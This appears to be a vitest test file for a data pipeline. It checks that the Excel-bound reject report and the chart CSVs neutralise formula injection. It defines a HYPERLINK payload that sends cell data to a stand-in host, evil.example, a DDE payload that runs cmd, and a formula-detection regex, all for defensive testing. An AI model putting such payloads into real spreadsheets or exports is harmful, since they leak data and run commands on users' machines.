// Formula injection (issue 7, item 8): values from exports and names from reference tables reach the
// reject report (opened by the data team in Excel) and the chart CSVs inert, numbers unchanged.
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildContext } from '../../src/site/figures/context.ts';
import { figureCsv } from '../../src/site/figures/figure.ts';
import { gapFigure } from '../../src/site/figures/overview.ts';
import { fixtureSite } from '../unit/site/fixture.ts';
import { build, FIXTURES, tempDir } from './helpers.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik untuk perbaiki")';
const DDE = "+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

describe('the reject report', () => {
  it('writes rejected values that look like formulas with a leading quote, and negative numbers as they came', async () => {
    const input = path.join(tempDir(), 'input');
    cpSync(path.join(FIXTURES, 'basic'), input, { recursive: true });
    const csv = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');
    writeFileSync(
      path.join(input, 'vacancies_hostile.csv'),
      [
        'vacancy_id,posted_date,occupation_code,positions,city',
        csv(['H1', '2025-03-01', '7212', HYPERLINK, 'Cilegon']),
        csv(['H2', '2025-03-01', '7212', DDE, 'Cilegon']),
        csv(['H3', '2025-03-01', '7212', '-4', 'Cilegon']),
        csv(['H4', '2025-03-01', '7212', '@SUM(A1:A9)', 'Cilegon']),
      ].join('\n'),
    );
    const { report } = await build(input, { asOf: '2025-12-31' });
    const rows: string[][] = parse(readFileSync(report, 'utf8'), { relax_column_count: false });
    const values = rows.filter((r) => r[1] === 'vacancies_hostile.csv').map((r) => [r[2], r[4]]);
    expect(values).toEqual([
      ['2', `'${HYPERLINK}`],
      ['3', `'${DDE}`],
      ['4', '-4'],
      ['5', "'@SUM(A1:A9)"],
    ]);
    for (const row of rows) for (const cell of row) if (FORMULA_START.test(cell)) expect(cell).toMatch(/^-\d+$/);
  });
});

describe('a chart CSV', () => {
  it('writes an occupation name from the reference table that starts with = as text, and its numbers unchanged', () => {
    const site = fixtureSite();
    site.reference = {
      ...site.reference,
      occupations: site.reference.occupations.map((o) => (o.code === '7212' ? { ...o, name_id: HYPERLINK, name_en: DDE } : o)),
    };
    for (const [lang, name] of [
      ['id', HYPERLINK],
      ['en', DDE],
    ] as const) {
      const rows: string[][] = parse(figureCsv(gapFigure(buildContext(site, lang))));
      const welders = rows.filter((r) => r[0].includes('HYPERLINK') || r[0].includes('cmd|'));
      expect(welders.map((r) => r[0])).toEqual([`'${name}`, `'${name}`, `'${name}`]);
      expect(welders.map((r) => r[2])).toEqual(['300', '35', '10']);
      for (const row of rows) expect(row[0]).not.toMatch(FORMULA_START);
    }
  });
});
